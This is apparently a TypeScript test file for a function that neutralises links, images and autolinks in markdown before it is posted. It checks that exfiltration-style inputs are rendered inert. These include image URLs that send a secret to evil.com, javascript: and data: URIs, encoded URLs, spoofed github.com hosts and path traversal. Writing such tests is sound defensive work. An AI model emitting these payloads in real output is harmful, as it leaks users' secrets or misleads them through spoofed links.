import { describe, expect, it } from "vitest";
import { neutralise, postingPolicy } from "../../src/core/gate/markdown.ts";
import { forbidden, policy } from "../core/markdown/forbidden.ts";

const post = (markdown: string) => neutralise(markdown, policy);

describe("T43: nothing is fetched and nothing leads away", () => {
  it.each([
    ["![x](https://evil.com/?d=secret)", "`x`"],
    ["![](https://evil.com/?d=secret)", ""],
    ["![x][r]\n\n[r]: https://evil.com/a", "`x`"],
    ['<img src="https://evil.com/a">', String.raw`\<img src="` + '`https://evil.com/a`"' + String.raw`\>`],
    ["[x](https://evil.com/?d=secret 'title')", "x (`https://evil.com/?d=secret`)"],
    ["[x][r]\n\n[r]: https://evil.com/a", "x"],
    ["<https://evil.com/a>", "`https://evil.com/a`"],
    ["see https://evil.com/a.", "see `https://evil.com/a`."],
    ["see www.evil.com", "see `www.evil.com`"],
    ["mail eve@evil.com", "mail `eve@evil.com`"],
    ["<eve@evil.com>", "`mailto:eve@evil.com`"],
    ["https&#58;//evil.com", "`https://evil.com`"],
    ["https\\://evil.com", "`https://evil.com`"],
    ["ftp://evil.com HTTP://EVIL.com xmpp:a@evil.com", "`ftp://evil.com` `HTTP://EVIL.com` `xmpp:a@evil.com`"],
    ["[x](javascript:alert)", "x (`javascript:alert`)"],
    ["[x](data:text/html,x)", "x (`data:text/html,x`)"],
    ["[x](//evil.com)", "x (`//evil.com`)"],
    ["[x](../../settings)", "x (`../../settings`)"],
    ["@[bob](https://evil.com)", "`@bob` (`https://evil.com`)"],
  ])("%j", (markdown, posted) => {
    expect(post(markdown)).toBe(posted);
    expect(forbidden(post(markdown))).toEqual([]);
  });

  it.each([
    "https://github.com/o/r/blob/m/x?d=secret",
    "https://github.com/o/r/blob/m/x#a/b=secret",
    "https://user:pass@github.com/o/r/blob/m/x",
    "https://github.com@evil.com/o/r/blob/m/x",
    "https://github.com.evil.com/o/r/blob/m/x",
    "https://github.com/o/r/blob/../../../evil/x",
    "https://github.com/o/r/blob/%2e%2e/%2e%2e/%2e%2e/evil/x",
    "https://github.com/o/r2/blob/m/x",
    "https://github.com/o/r/issues/1",
    "https://github.com/o/r/pull/1",
    "http://github.com/o/r/blob/m/x",
    "https://GITHUB.com.evil.com/o/r/blob/m/x",
    String.raw`https://github.com\@evil.com/o/r/blob/m/x`,
  ])("is not the repository's own page: %s", (url) => {
    expect(post(`[x](<${url.replaceAll("\\", "\\\\")}>)`)).not.toContain("](");
    expect(post(`see ${url} there`)).not.toContain("](");
  });

  it("keeps links to files of the repository at the configured server", () => {
    const own = postingPolicy({ webUrl: "https://git.example.org", owner: "o", name: "r", mentions: [] });
    expect(neutralise("https://git.example.org/o/r/blob/m/a%20(b).ts#L3, https://github.com/o/r/blob/m/x", own)).toBe(
      "[`https://git.example.org/o/r/blob/m/a%20(b).ts#L3`](<https://git.example.org/o/r/blob/m/a%20%28b%29.ts#L3>), `https://github.com/o/r/blob/m/x`",
    );
  });
});
